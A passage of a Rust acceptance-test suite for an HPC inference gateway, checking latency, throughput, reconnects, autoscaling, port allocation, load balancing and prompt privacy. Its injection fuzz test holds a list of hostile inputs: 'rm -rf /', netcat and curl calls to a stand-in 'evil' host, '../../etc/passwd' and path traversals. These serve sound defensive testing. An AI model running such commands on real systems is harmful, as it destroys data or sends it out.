//! Acceptance suite. Prints one PASS/FAIL line per criterion and exits
//! non-zero if any fails. Pick criteria by number:
//! `cargo test -p hpcgate --test acceptance -- 5 7`.

use std::collections::{BTreeMap, HashMap, HashSet};
use std::io::Write as _;
use std::panic::AssertUnwindSafe;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Barrier, Mutex};
use std::time::{Duration, Instant};

use bytes::Bytes;
use futures::future::BoxFuture;
use futures::{FutureExt, StreamExt};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use tokio::runtime::Runtime;

use hpcgate::bench::{bench_latency, bench_throughput, completion_body, HttpClient, Stage, Target};
use hpcgate::config::DeploymentConfig;
use hpcgate::interface::{Interface, Outcome, SchedulerTrigger, Upstream, UpstreamFuture, UpstreamReply, UpstreamRequest};
use hpcgate::proxy::{Channel, ChannelError, ChannelReader, LinkMode, LocalChannel};
use hpcgate::routing::{RouteEntry, RouteState, RoutingTable};
use hpcgate::scheduler::{
    ClusterError, JobListing, Scheduler, SchedulerPaths, ServiceSpec, SubmitEnv, WorkloadManager,
};
use hpcgate::simcluster::{
    LoadStep, RunSection, Scenario, ScenarioRun, ScheduleSpec, SimCluster, SimEvent, SimHandle, SimJobState, Topology,
};
use hpcgate::stack::LocalStack;
use hpcgate::wire::ServiceName;

/// Planted in every request body; must never reach a file.
const SENTINEL: &str = "sentinel-prompt-6d1f0a93c4";
const KEY: &str = "sk-acceptance";

struct Verdict {
    pass: bool,
    detail: String,
}

impl Verdict {
    fn new(pass: bool, detail: impl Into<String>) -> Verdict {
        Verdict {
            pass,
            detail: detail.into(),
        }
    }
}

struct Ctx {
    root: PathBuf,
    rt: Runtime,
    stack: Option<(LocalStack, Arc<Recorder>)>,
}

impl Ctx {
    fn dir(&self, name: &str) -> PathBuf {
        let d = self.root.join(name);
        std::fs::create_dir_all(&d).unwrap();
        d
    }

    /// Starts the shared loopback stack for the first four criteria.
    fn start_stack(&mut self) -> Result<(), String> {
        if self.stack.is_none() {
            let dir = self.dir("stack");
            let cfg_path = dir.join("deploy.toml");
            std::fs::write(&cfg_path, STACK_CONFIG).unwrap();
            let cfg = DeploymentConfig::load(&cfg_path).map_err(|e| e.to_string())?;
            let started = self.rt.block_on(async {
                let recorder = Arc::new(Mutex::new(None));
                let r = recorder.clone();
                let stack = LocalStack::start_with(cfg, move |inner| {
                    let rec = Arc::new(Recorder {
                        inner,
                        seen: Mutex::new(HashMap::new()),
                    });
                    *r.lock().unwrap() = Some(rec.clone());
                    rec as Arc<dyn Channel>
                })
                .await
                .map_err(|e| e.to_string())?;
                for (svc, n) in [("chat", 1), ("echo", 1), ("slow1", 1), ("slow2", 2)] {
                    if !stack.wait_ready(svc, n, Duration::from_secs(60)).await {
                        return Err(format!("{svc} not ready within 60 s"));
                    }
                }
                let rec = recorder.lock().unwrap().take().expect("channel wrapped");
                Ok((stack, rec))
            })?;
            self.stack = Some(started);
        }
        Ok(())
    }
}

const STACK_CONFIG: &str = r#"
[proxy]
listen = "127.0.0.1:0"
operator_listen = "127.0.0.1:0"
access_log = "logs/access.log"
routes = [
  { model = "chat", service = "chat" },
  { model = "echo", service = "echo" },
  { model = "slow1", service = "slow1" },
  { model = "slow2", service = "slow2" },
]
api_keys = [{ id = "acceptance", key = "sk-acceptance", rate_limit_per_minute = 100000000 }]

[scheduler]
backend = "sim"
state_dir = "state"
tick_interval_s = 1
seed = 11

[[scheduler.services]]
name = "chat"
job_template = "gpus=1 cold_start=1 profile=chat"
min_instances = 1
max_instances = 1

[[scheduler.services]]
name = "echo"
job_template = "gpus=1 cold_start=1 profile=null"
min_instances = 1
max_instances = 1

[[scheduler.services]]
name = "slow1"
job_template = "gpus=1 cold_start=1 profile=capped"
min_instances = 1
max_instances = 1

[[scheduler.services]]
name = "slow2"
job_template = "gpus=1 cold_start=1 profile=capped"
min_instances = 2
max_instances = 2

[sim]
topology = { nodes = 2, gpus_per_node = 4, scheduling_delay_s = 0.5 }

[sim.profiles.chat]
first_token_delay_ms = 27
tokens_per_second = 50

[sim.profiles.capped]
first_token_delay_ms = 0
tokens_per_second = 0
tokens_per_reply = 4
replies_per_second = 8
"#;

/// Counts every body carrying a request id, to catch replays.
struct Recorder {
    inner: Arc<LocalChannel>,
    seen: Mutex<HashMap<Bytes, u32>>,
}

impl Recorder {
    fn replays(&self) -> (usize, u32) {
        let seen = self.seen.lock().unwrap();
        let replays = seen.values().map(|&n| n.saturating_sub(1)).sum();
        (seen.len(), replays)
    }
}

impl Channel for Recorder {
    fn invoke(&self, command: String, body: Bytes) -> BoxFuture<'static, Result<ChannelReader, ChannelError>> {
        if body.windows(4).any(|w| w == b"req-") {
            *self.seen.lock().unwrap().entry(body.clone()).or_default() += 1;
        }
        self.inner.invoke(command, body)
    }
}

fn target(stack: &LocalStack, model: &str) -> Target {
    Target {
        ingress: stack.ingress,
        key: KEY.into(),
        model: model.into(),
        prompt: SENTINEL.into(),
    }
}

fn c1_latency(ctx: &mut Ctx) -> Verdict {
    if let Err(e) = ctx.start_stack() {
        return Verdict::new(false, e);
    }
    let (stack, _) = ctx.stack.as_ref().expect("started");
    let t = target(stack, "chat");
    let report = match ctx.rt.block_on(bench_latency(&t, 50, 27.0)) {
        Ok(r) => r,
        Err(e) => return Verdict::new(false, e.to_string()),
    };
    let d = &report.stages[3];
    let rows: Vec<String> = report.stages.iter().map(|s| format!("{:.2}", s.p50_ms)).collect();
    Verdict::new(
        d.p50_ms <= 60.0 && report.overhead_ms <= 25.0,
        format!(
            "p50 a/b/c/d = {} ms; (d) {:.2} <= 60, overhead {:.2} <= 25",
            rows.join("/"),
            d.p50_ms,
            report.overhead_ms
        ),
    )
}

fn c2_throughput(ctx: &mut Ctx) -> Verdict {
    if let Err(e) = ctx.start_stack() {
        return Verdict::new(false, e);
    }
    let (stack, _) = ctx.stack.as_ref().expect("started");
    let t = target(stack, "echo");
    let runs = ctx.rt.block_on(async {
        let mut out = Vec::new();
        for (stage, secs) in [(Stage::IngressOnly, 10), (Stage::Channel, 10), (Stage::FullPath, 30)] {
            out.push(bench_throughput(&t, stage, Duration::from_secs(secs), 16).await);
        }
        out
    });
    let (ingress, channel, full) = (&runs[0], &runs[1], &runs[2]);
    let errors: u64 = runs.iter().map(|r| r.errors).sum();
    let pass = full.rps >= 100.0
        && full.duration_s >= 30.0
        && errors == 0
        && ingress.rps >= channel.rps
        && channel.rps >= full.rps;
    Verdict::new(
        pass,
        format!(
            "ingress {:.0} >= channel {:.0} >= full {:.0} rps over {:.1} s (>= 100), errors {errors}",
            ingress.rps, channel.rps, full.rps, full.duration_s
        ),
    )
}

fn c3_bottleneck(ctx: &mut Ctx) -> Verdict {
    if let Err(e) = ctx.start_stack() {
        return Verdict::new(false, e);
    }
    let (stack, _) = ctx.stack.as_ref().expect("started");
    let instances = (stack.ready_count("slow1"), stack.ready_count("slow2"));
    let (one, two) = ctx.rt.block_on(async {
        let one = bench_throughput(&target(stack, "slow1"), Stage::FullPath, Duration::from_secs(15), 16).await;
        let two = bench_throughput(&target(stack, "slow2"), Stage::FullPath, Duration::from_secs(15), 16).await;
        (one, two)
    });
    let pass = instances == (1, 2)
        && (7.0..=9.0).contains(&one.rps)
        && (14.0..=18.0).contains(&two.rps)
        && one.errors + two.errors == 0;
    Verdict::new(
        pass,
        format!(
            "1 instance {:.2} rps in [7, 9], 2 instances {:.2} rps in [14, 18], ready {instances:?}, errors {}",
            one.rps,
            two.rps,
            one.errors + two.errors
        ),
    )
}

fn c4_reconnect(ctx: &mut Ctx) -> Verdict {
    if let Err(e) = ctx.start_stack() {
        return Verdict::new(false, e);
    }
    let (stack, recorder) = ctx.stack.as_ref().expect("started");
    let ingress = stack.ingress;
    let next_id = Arc::new(AtomicU64::new(0));
    let body = {
        let next_id = next_id.clone();
        move || {
            let id = next_id.fetch_add(1, Ordering::Relaxed);
            completion_body("echo", &format!("{SENTINEL} req-{id}"), false)
        }
    };
    let outcome = ctx.rt.block_on(async {
        let stop = Arc::new(AtomicBool::new(false));
        let mut workers = Vec::new();
        for _ in 0..4 {
            let (stop, body) = (stop.clone(), body.clone());
            workers.push(tokio::spawn(async move {
                let mut client = HttpClient::new(ingress, Some(KEY));
                while !stop.load(Ordering::Relaxed) {
                    let _ = client.request("POST", "/v1/chat/completions", Some(body()), false).await;
                    tokio::time::sleep(Duration::from_millis(10)).await;
                }
            }));
        }
        tokio::time::sleep(Duration::from_secs(2)).await;

        stack.channel.set_link(LinkMode::Refuse);
        let mut probe = HttpClient::new(ingress, Some(KEY));
        let mut worst = Duration::ZERO;
        let mut not_503 = Vec::new();
        let outage = Instant::now();
        let mut probes = 0;
        while outage.elapsed() < Duration::from_secs(10) {
            let sent = Instant::now();
            let r = probe.request("POST", "/v1/chat/completions", Some(body()), false).await;
            worst = worst.max(sent.elapsed());
            probes += 1;
            match r {
                Ok(r) if r.status == 503 => {}
                Ok(r) => not_503.push(r.status.to_string()),
                Err(e) => not_503.push(e.to_string()),
            }
            tokio::time::sleep(Duration::from_millis(250)).await;
        }

        stack.channel.set_link(LinkMode::Up);
        let restored = Instant::now();
        let mut recovered = None;
        while restored.elapsed() < Duration::from_secs(30) {
            if let Ok(r) = probe.request("POST", "/v1/chat/completions", Some(body()), false).await {
                if r.status == 200 {
                    recovered = Some(restored.elapsed());
                    break;
                }
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        stop.store(true, Ordering::Relaxed);
        for w in workers {
            let _ = w.await;
        }
        (probes, worst, not_503, recovered)
    });
    let (probes, worst, not_503, recovered) = outcome;
    let (bodies, replays) = recorder.replays();
    let recovered_ok = recovered.is_some_and(|d| d <= Duration::from_secs(18));
    let pass = not_503.is_empty() && worst <= Duration::from_millis(100) && recovered_ok && replays == 0 && bodies > 0;
    Verdict::new(
        pass,
        format!(
            "{probes} requests while severed: slowest 503 {:.1} ms (<= 100){}; 200 again {} after restore (<= 18 s); {replays} replays of {bodies} bodies",
            worst.as_secs_f64() * 1000.0,
            if not_503.is_empty() { String::new() } else { format!(", non-503: {not_503:?}") },
            recovered.map_or("never".into(), |d| format!("{:.2} s", d.as_secs_f64())),
        ),
    )
}

/// Brute-force desired count: per-millisecond concurrency from the step
/// list, summed over the window, smallest k with k * target * window >=
/// the sum, clamped.
struct Oracle {
    /// prefix[m] = sum of the level over milliseconds 0..m
    prefix: Vec<u64>,
}

impl Oracle {
    fn new(steps: &[(u64, u32)], end_ms: u64) -> Oracle {
        let mut level = vec![0u32; end_ms as usize + 1];
        for (i, &(at, l)) in steps.iter().enumerate() {
            let until = steps.get(i + 1).map_or(level.len(), |next| next.0 as usize);
            level[at as usize..until].fill(l);
        }
        let mut prefix = Vec::with_capacity(level.len() + 1);
        prefix.push(0u64);
        let mut acc = 0u64;
        for l in level {
            acc += l as u64;
            prefix.push(acc);
        }
        Oracle { prefix }
    }

    fn desired(&self, now_ms: u64, window_ms: u64, target: u64, min: u32, max: u32) -> u32 {
        let from = now_ms.saturating_sub(window_ms) as usize;
        let sum = self.prefix[now_ms as usize] - self.prefix[from];
        let mut k = 0u64;
        while k * target * window_ms < sum {
            k += 1;
        }
        (k as u32).clamp(min, max)
    }
}

fn c5_oracle(ctx: &mut Ctx) -> Verdict {
    const HOUR_MS: u64 = 3_600_000;
    let mut compared = 0u64;
    let mut mismatches = Vec::new();
    for trace in 0..20u64 {
        let mut rng = ChaCha8Rng::seed_from_u64(0x5eed_0000 + trace);
        let mut services = Vec::new();
        let mut load = Vec::new();
        let mut params = Vec::new();
        for s in 0..2 {
            let name = format!("svc{s}");
            let target = rng.random_range(1..=5u64);
            let window_s = [30u64, 60, 120, 300, 600][rng.random_range(0..5)];
            let min = rng.random_range(0..=1u32);
            let max = min + rng.random_range(1..=6u32);
            services.push(ServiceSpec {
                min_instances: min,
                max_instances: max,
                target_concurrency_per_instance: target as f64,
                window_seconds: window_s,
                ..ServiceSpec::new(&name, "gpus=1 cold_start=20")
            });
            let mut steps = Vec::new();
            let mut at = rng.random_range(0..60_000u64);
            while at < HOUR_MS {
                let level = rng.random_range(0..=24u32);
                steps.push((at, level));
                load.push(LoadStep {
                    at_s: at as f64 / 1000.0,
                    service: name.clone(),
                    concurrency: level,
                });
                at += rng.random_range(1_000..=180_000u64);
            }
            params.push((name, Oracle::new(&steps, HOUR_MS), window_s * 1000, target, min, max));
        }
        let scenario = Scenario {
            topology: Topology {
                nodes: 4,
                gpus_per_node: 4,
                scheduling_delay_s: 3.0,
            },
            run: RunSection {
                duration_s: 3600,
                tick_s: 5.0,
                start_s: 0,
                seed: trace,
            },
            services,
            schedule: Vec::new(),
            load,
            faults: Vec::new(),
            base_dir: PathBuf::new(),
        };
        let dir = ctx.dir(&format!("oracle/{trace}"));
        let mut run = match ScenarioRun::new(&scenario, &dir) {
            Ok(r) => r,
            Err(e) => return Verdict::new(false, e),
        };
        while !run.is_finished() {
            let report = run.step().clone();
            for (name, oracle, window_ms, target, min, max) in &params {
                let want = oracle.desired(report.now_ms, *window_ms, *target, *min, *max);
                let got = report.desired_count(name);
                compared += 1;
                if got != want && mismatches.len() < 5 {
                    mismatches.push(format!("trace {trace} {name} t={} got {got} want {want}", report.now_ms));
                }
            }
        }
    }
    Verdict::new(
        mismatches.is_empty(),
        format!("20 one-hour traces, {compared} tick values compared, mismatches {mismatches:?}"),
    )
}

fn c6_scale_down(ctx: &mut Ctx) -> Verdict {
    let scenario = Scenario {
        topology: Topology::default(),
        run: RunSection {
            duration_s: 3 * 3600,
            tick_s: 5.0,
            start_s: 0,
            seed: 6,
        },
        services: vec![ServiceSpec {
            min_instances: 1,
            max_instances: 4,
            target_concurrency_per_instance: 4.0,
            window_seconds: 60,
            walltime_seconds: 1800,
            renewal_margin_seconds: 300,
            ..ServiceSpec::new("m", "gpus=1 cold_start=30")
        }],
        schedule: Vec::new(),
        load: vec![
            LoadStep {
                at_s: 0.0,
                service: "m".into(),
                concurrency: 12,
            },
            LoadStep {
                at_s: 600.0,
                service: "m".into(),
                concurrency: 0,
            },
        ],
        faults: Vec::new(),
        base_dir: PathBuf::new(),
    };
    let dir = ctx.dir("scale-down");
    let mut run = match ScenarioRun::new(&scenario, &dir) {
        Ok(r) => r,
        Err(e) => return Verdict::new(false, e),
    };
    run.run_to_end();
    let report = run.report();
    let sim = run.sim().lock();

    let peak = report.ticks.iter().map(|t| t.services["m"].desired).max().unwrap_or(0);
    let peak_ready = report.ticks.iter().map(|t| t.services["m"].ready).max().unwrap_or(0);
    let cancellations = report
        .events
        .iter()
        .filter(|e| matches!(e, SimEvent::Cancelled { .. }))
        .count();
    // every job that ended did so at start + walltime
    let mut expiries = 0;
    let mut early = 0;
    for e in &report.events {
        if let SimEvent::Expired { at_ms, job } = e {
            expiries += 1;
            let j = sim.job(*job).expect("job of event");
            if Some(*at_ms) != j.start_ms.map(|s| s + j.walltime_ms) {
                early += 1;
            }
        }
    }
    // each drop in live jobs is matched by expiries since the previous tick
    let mut unexplained = 0;
    for pair in report.ticks.windows(2) {
        let (a, b) = (&pair[0], &pair[1]);
        let drop = a.services["m"].live_jobs.saturating_sub(b.services["m"].live_jobs);
        let expired = report
            .events
            .iter()
            .filter(|e| matches!(e, SimEvent::Expired { at_ms, .. } if *at_ms > a.at_ms && *at_ms <= b.at_ms))
            .count() as u32;
        if drop > expired {
            unexplained += 1;
        }
    }
    let last = &report.ticks.last().expect("ticks").services["m"];
    let pass = peak == 3
        && peak_ready == 3
        && report.ready_cancellations == 0
        && cancellations == 0
        && early == 0
        && unexplained == 0
        && expiries >= 3
        && last.ready == 1
        && last.desired == 1;
    Verdict::new(
        pass,
        format!(
            "peak desired {peak}, ready {peak_ready}; {expiries} expiries all at walltime ({early} early), {unexplained} unexplained drops, {} READY cancellations, {cancellations} cancellations in all, final ready {}",
            report.ready_cancellations, last.ready
        ),
    )
}

/// Records every upstream request and answers 200 at once.
#[derive(Default)]
struct RecordingUpstream {
    sent: Mutex<Vec<(String, u16, &'static str)>>,
}

impl Upstream for RecordingUpstream {
    fn send(&self, req: UpstreamRequest) -> UpstreamFuture<'_> {
        self.sent.lock().unwrap().push((req.node, req.port, req.path.as_str()));
        Box::pin(async {
            Ok(UpstreamReply {
                status: 200,
                content_type: Some("application/json".into()),
                body: futures::stream::iter([Ok::<_, String>(Bytes::from_static(b"{}"))]).boxed(),
            })
        })
    }
}

#[derive(Default)]
struct CountingTrigger(AtomicU64);

impl SchedulerTrigger for CountingTrigger {
    fn trigger(&self) {
        self.0.fetch_add(1, Ordering::Relaxed);
    }
}

fn entry(job: u32, service: &str, port: u16, state: RouteState) -> RouteEntry {
    RouteEntry {
        job_id: job.to_string(),
        service: ServiceName::new(service).unwrap(),
        node: "gpu01".into(),
        port,
        state,
        updated_at: 0,
    }
}

fn write_table(paths: &SchedulerPaths, entries: Vec<RouteEntry>) {
    let mut table = RoutingTable::new();
    table.entries = entries;
    table.store(&paths.table).unwrap();
}

/// Child processes of this test binary, from procfs.
fn child_processes() -> usize {
    let Ok(tasks) = std::fs::read_dir("/proc/self/task") else {
        return 0;
    };
    tasks
        .flatten()
        .filter_map(|t| std::fs::read_to_string(t.path().join("children")).ok())
        .map(|s| s.split_whitespace().count())
        .sum()
}

const ALLOWED_PATHS: [&str; 4] = ["/v1/chat/completions", "/v1/completions", "/v1/models", "/health"];

const HOSTILE: [&str; 32] = [
    "; rm -rf /",
    "$(id)",
    "`id`",
    "| nc evil 4444",
    "&& curl evil",
    "../../etc/passwd",
    "/v1/chat/completions/../../admin",
    "/v1/chat/completions?x=1",
    "/v1/chat/completions#",
    "//v1/models",
    "/V1/MODELS",
    "/v1/models%00",
    "/v1/models/",
    "/admin",
    "http://evil/v1/models",
    "\n",
    "\r\n",
    "\0",
    "..",
    "-",
    "\t",
    "99999999999999999999",
    "-1",
    "0x10",
    "+5",
    "ghost",
    "m;x",
    "M",
    "\u{e9}",
    "SVC m 1 1",
    "END",
    "PING PING",
];

fn fuzz_command(rng: &mut ChaCha8Rng, body_len: usize) -> Vec<u8> {
    let methods = ["GET", "POST"];
    let services = ["m", "other", "ghost"];
    let base = |rng: &mut ChaCha8Rng| -> Vec<String> {
        if rng.random_bool(0.1) {
            return vec!["PING".into()];
        }
        vec![
            "REQ".into(),
            "1".into(),
            methods[rng.random_range(0..2)].into(),
            services[rng.random_range(0..3)].into(),
            ALLOWED_PATHS[rng.random_range(0..4)].into(),
            body_len.to_string(),
            ["S", "N"][rng.random_range(0..2)].into(),
        ]
    };
    match rng.random_range(0..6) {
        // raw noise
        0 => {
            let n = rng.random_range(0..200);
            (0..n).map(|_| rng.random::<u8>()).collect()
        }
        // one token replaced by something hostile
        1 => {
            let mut t = base(rng);
            let i = rng.random_range(0..t.len());
            t[i] = HOSTILE[rng.random_range(0..HOSTILE.len())].into();
            t.join(" ").into_bytes()
        }
        // hostile text glued onto a token
        2 => {
            let mut t = base(rng);
            let i = rng.random_range(0..t.len());
            let h = HOSTILE[rng.random_range(0..HOSTILE.len())];
            t[i].push_str(h);
            t.join(" ").into_bytes()
        }
        // byte-level mutation of a valid line
        3 => {
            let mut b = base(rng).join(" ").into_bytes();
            for _ in 0..rng.random_range(1..=4) {
                let at = rng.random_range(0..=b.len());
                match rng.random_range(0..3) {
                    0 if at < b.len() => b[at] = rng.random(),
                    1 if at < b.len() => {
                        b.remove(at);
                    }
                    _ => b.insert(at, rng.random()),
                }
            }
            b
        }
        // tokens dropped, duplicated or reordered, odd separators
        4 => {
            let mut t = base(rng);
            match rng.random_range(0..4) {
                0 if t.len() > 1 => {
                    let i = rng.random_range(0..t.len());
                    t.remove(i);
                }
                1 => {
                    let i = rng.random_range(0..t.len());
                    let dup = t[i].clone();
                    t.insert(i, dup);
                }
                2 => {
                    let (i, j) = (rng.random_range(0..t.len()), rng.random_range(0..t.len()));
                    t.swap(i, j);
                }
                _ => {}
            }
            let sep = [" ", "  ", "\t", " \n", ""][rng.random_range(0..5)];
            t.join(sep).into_bytes()
        }
        // well formed
        _ => base(rng).join(" ").into_bytes(),
    }
}

fn c7_injection(ctx: &mut Ctx) -> Verdict {
    let dir = ctx.dir("fuzz");
    let paths = SchedulerPaths::in_dir(&dir);
    write_table(
        &paths,
        vec![
            entry(1, "m", 30001, RouteState::Ready),
            entry(2, "m", 30002, RouteState::Draining),
            entry(3, "other", 30003, RouteState::Ready),
            entry(4, "other", 30004, RouteState::Starting),
            RouteEntry {
                node: "-".into(),
                ..entry(5, "other", 30005, RouteState::Submitted)
            },
        ],
    );
    let table = RoutingTable::load(&paths.table).unwrap();
    let routable: HashSet<(String, String, u16)> = table
        .entries
        .iter()
        .filter(|e| e.state.is_routable())
        .map(|e| (e.service.as_str().to_owned(), e.node.clone(), e.port))
        .collect();

    let upstream = Arc::new(RecordingUpstream::default());
    let trigger = Arc::new(CountingTrigger::default());
    let iface = Interface::new(paths, upstream.clone(), trigger.clone()).with_seed(7);
    let children_before = child_processes();

    let mut rng = ChaCha8Rng::seed_from_u64(0xf022);
    let (mut panics, mut forwards, mut pongs, mut rejected, mut bad_path, mut bad_endpoint) = (0, 0, 0, 0, 0, 0);
    let mut max_children = 0;
    ctx.rt.block_on(async {
        for i in 0..100_000u32 {
            let mut body = format!("{{\"prompt\":\"{SENTINEL}\",\"n\":{i}}}").into_bytes();
            if rng.random_bool(0.2) {
                body.extend((0..rng.random_range(0..64)).map(|_| rng.random::<u8>()));
            }
            let declared = if rng.random_bool(0.8) { body.len() } else { rng.random_range(0..body.len() * 2) };
            let command = fuzz_command(&mut rng, declared);
            upstream.sent.lock().unwrap().clear();
            let mut input: &[u8] = &body;
            let mut out = Vec::new();
            let result = AssertUnwindSafe(iface.handle_invocation(&command, &mut input, &mut out))
                .catch_unwind()
                .await;
            let outcome = match result {
                Ok(o) => o,
                Err(_) => {
                    panics += 1;
                    continue;
                }
            };
            let sent = upstream.sent.lock().unwrap().clone();
            match outcome {
                Outcome::Pong => pongs += 1,
                Outcome::Rejected { .. } => rejected += 1,
                Outcome::Forwarded { .. } | Outcome::Aborted => {}
            }
            if sent.is_empty() {
                continue;
            }
            forwards += 1;
            // the command that got through must be exactly one of the
            // allowed shapes, and name the path and service that were used
            let text = String::from_utf8_lossy(&command);
            let tokens: Vec<&str> = text.split(' ').collect();
            for (node, port, path) in &sent {
                if !ALLOWED_PATHS.contains(path) || tokens.get(4) != Some(path) {
                    bad_path += 1;
                }
                let service = tokens.get(3).copied().unwrap_or("");
                if !routable.contains(&(service.to_owned(), node.clone(), *port)) {
                    bad_endpoint += 1;
                }
            }
            if i % 1000 == 0 {
                max_children = max_children.max(child_processes());
            }
        }
    });
    max_children = max_children.max(child_processes());
    let spawned = max_children.saturating_sub(children_before);
    let pass = panics == 0 && bad_path == 0 && bad_endpoint == 0 && spawned == 0 && forwards > 0;
    Verdict::new(
        pass,
        format!(
            "100000 commands: {forwards} forwarded, {pongs} pongs ({} triggers), {rejected} rejected; {bad_path} outside allowlist, {bad_endpoint} unlisted endpoints, {spawned} child processes, {panics} panics",
            trigger.0.load(Ordering::Relaxed)
        ),
    )
}

/// Slows `list` so that overlapping ticks would be visible.
struct SlowCluster(SimHandle);

impl WorkloadManager for SlowCluster {
    fn submit(&self, template: &str, walltime_s: u64, env: &SubmitEnv) -> Result<String, ClusterError> {
        self.0.submit(template, walltime_s, env)
    }
    fn list(&self) -> Result<Vec<JobListing>, ClusterError> {
        std::thread::sleep(Duration::from_millis(200));
        self.0.list()
    }
    fn cancel(&self, job_id: &str) -> Result<(), ClusterError> {
        self.0.cancel(job_id)
    }
}

fn c8_ports_and_lock(ctx: &mut Ctx) -> Verdict {
    // soak: many short-lived instances from one narrow shared port range
    let mut rng = ChaCha8Rng::seed_from_u64(8);
    let names: Vec<String> = (0..8).map(|i| format!("s{i}")).collect();
    let services = names
        .iter()
        .map(|n| ServiceSpec {
            min_instances: 1,
            max_instances: 8,
            target_concurrency_per_instance: 2.0,
            window_seconds: 60,
            walltime_seconds: 120,
            renewal_margin_seconds: 30,
            port_range: (30000, 30199),
            ..ServiceSpec::new(n, "gpus=1 cold_start=5")
        })
        .collect();
    let mut load = Vec::new();
    for n in &names {
        let mut at = 0.0;
        while at < 40_000.0 {
            load.push(LoadStep {
                at_s: at,
                service: n.clone(),
                concurrency: rng.random_range(0..=16),
            });
            at += rng.random_range(30.0..300.0f64).round();
        }
    }
    let scenario = Scenario {
        topology: Topology {
            nodes: 20,
            gpus_per_node: 4,
            scheduling_delay_s: 3.0,
        },
        run: RunSection {
            duration_s: 40_000,
            tick_s: 5.0,
            start_s: 0,
            seed: 8,
        },
        services,
        schedule: Vec::new(),
        load,
        faults: Vec::new(),
        base_dir: PathBuf::new(),
    };
    let dir = ctx.dir("soak");
    let mut run = match ScenarioRun::new(&scenario, &dir) {
        Ok(r) => r,
        Err(e) => return Verdict::new(false, e),
    };
    let (mut submissions, mut clashes, mut peak_active) = (0usize, 0usize, 0usize);
    while submissions < 10_000 && !run.is_finished() {
        submissions += run.step().submitted.len();
        let sim = run.sim().lock();
        let mut seen = HashSet::new();
        let mut active = 0;
        for j in sim.jobs() {
            if matches!(j.state, SimJobState::Pending | SimJobState::Running) {
                active += 1;
                if !seen.insert(j.port) {
                    clashes += 1;
                }
            }
        }
        peak_active = peak_active.max(active);
        drop(sim);
        if run.samples().last().is_some_and(|t| t.max_port_multiplicity > 1) {
            clashes += 1;
        }
    }

    // lock: 50 schedulers over one state directory tick at the same instant
    let dir = ctx.dir("lock");
    let paths = SchedulerPaths::in_dir(&dir);
    let sim = SimHandle::virtual_time(SimCluster::new(&Topology::default(), 0));
    let cluster = Arc::new(SlowCluster(sim.clone()));
    let specs = vec![ServiceSpec {
        min_instances: 3,
        max_instances: 3,
        ..ServiceSpec::new("m", "gpus=1 cold_start=10")
    }];
    let barrier = Arc::new(Barrier::new(50));
    let threads: Vec<_> = (0..50)
        .map(|i| {
            let scheduler = Scheduler::new(paths.clone(), cluster.clone(), Arc::new(sim.clone()), Some(i));
            let (barrier, specs) = (barrier.clone(), specs.clone());
            std::thread::spawn(move || {
                barrier.wait();
                scheduler.run_tick(&specs, 60_000)
            })
        })
        .collect();
    let mut ticks = 0;
    let mut tick_submissions = 0;
    for t in threads {
        if let Ok(Ok(Some(report))) = t.join() {
            ticks += 1;
            tick_submissions += report.submitted.len();
        }
    }
    let jobs = sim.lock().jobs().count();
    let pass = submissions >= 10_000 && clashes == 0 && ticks >= 1 && tick_submissions == 3 && jobs == 3;
    Verdict::new(
        pass,
        format!(
            "{submissions} submissions, peak {peak_active} active jobs on 200 ports, {clashes} port clashes; 50 concurrent attempts: {ticks} tick(s), {tick_submissions} submissions, {jobs} jobs (want 3)"
        ),
    )
}

fn c9_balance(ctx: &mut Ctx) -> Verdict {
    let count = |ctx: &Ctx, tag: &str| -> BTreeMap<u16, u32> {
        let dir = ctx.dir(&format!("balance-{tag}"));
        let paths = SchedulerPaths::in_dir(&dir);
        write_table(
            &paths,
            (0..4).map(|i| entry(i + 1, "m", 31000 + i as u16, RouteState::Ready)).collect(),
        );
        let upstream = Arc::new(RecordingUpstream::default());
        let iface = Interface::new(paths, upstream.clone(), Arc::new(CountingTrigger::default())).with_seed(9);
        ctx.rt.block_on(async {
            for i in 0..10_000 {
                let body = format!("{{\"prompt\":\"{SENTINEL}\",\"n\":{i}}}");
                let command = format!("REQ 1 POST m /v1/chat/completions {} N", body.len());
                let mut input = body.as_bytes();
                let mut out = Vec::new();
                iface.handle_invocation(command.as_bytes(), &mut input, &mut out).await;
            }
        });
        let mut counts = BTreeMap::new();
        for (_, port, _) in upstream.sent.lock().unwrap().iter() {
            *counts.entry(*port).or_default() += 1;
        }
        counts
    };
    let a = count(ctx, "a");
    let b = count(ctx, "b");
    let within = a.len() == 4 && a.values().all(|&n| (2250..=2750).contains(&n));
    Verdict::new(
        within && a == b,
        format!(
            "per-instance counts {:?} (each 2500 +- 250), rerun identical: {}",
            a.values().collect::<Vec<_>>(),
            a == b
        ),
    )
}

fn c10_privacy(ctx: &mut Ctx) -> Verdict {
    fn walk(dir: &Path, files: &mut Vec<PathBuf>) {
        for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() {
                walk(&p, files);
            } else {
                files.push(p);
            }
        }
    }
    let mut files = Vec::new();
    walk(&ctx.root, &mut files);
    let mut bytes = 0u64;
    let mut hits = Vec::new();
    for f in &files {
        let Ok(data) = std::fs::read(f) else { continue };
        bytes += data.len() as u64;
        if data.windows(SENTINEL.len()).any(|w| w == SENTINEL.as_bytes()) {
            hits.push(f.strip_prefix(&ctx.root).unwrap_or(f).display().to_string());
        }
    }
    let access_log = ctx.root.join("stack/logs/access.log");
    let logged = std::fs::metadata(&access_log).map(|m| m.len()).unwrap_or(0);
    Verdict::new(
        hits.is_empty() && !files.is_empty(),
        format!(
            "{} files ({bytes} bytes, access log {logged} bytes) scanned, sentinel found in {hits:?}",
            files.len()
        ),
    )
}

/// The simulator's scheduling delay is a placeholder, so the night is
/// replayed at several delays.
fn c11_config_swap(ctx: &mut Ctx) -> Verdict {
    let runs: Vec<(f64, Verdict)> = [1.0, 3.0, 10.0, 30.0].into_iter().map(|d| (d, one_night(ctx, d))).collect();
    let pass = runs.iter().all(|(_, v)| v.pass);
    let detail = runs
        .iter()
        .map(|(d, v)| format!("[delay {d} s] {}", v.detail))
        .collect::<Vec<_>>()
        .join("; ");
    Verdict::new(pass, detail)
}

fn one_night(ctx: &mut Ctx, delay_s: f64) -> Verdict {
    const HOUR_S: u64 = 3600;
    let dir = ctx.dir(&format!("swap-{delay_s}"));
    let service = |name: &str, min: u32| {
        format!(
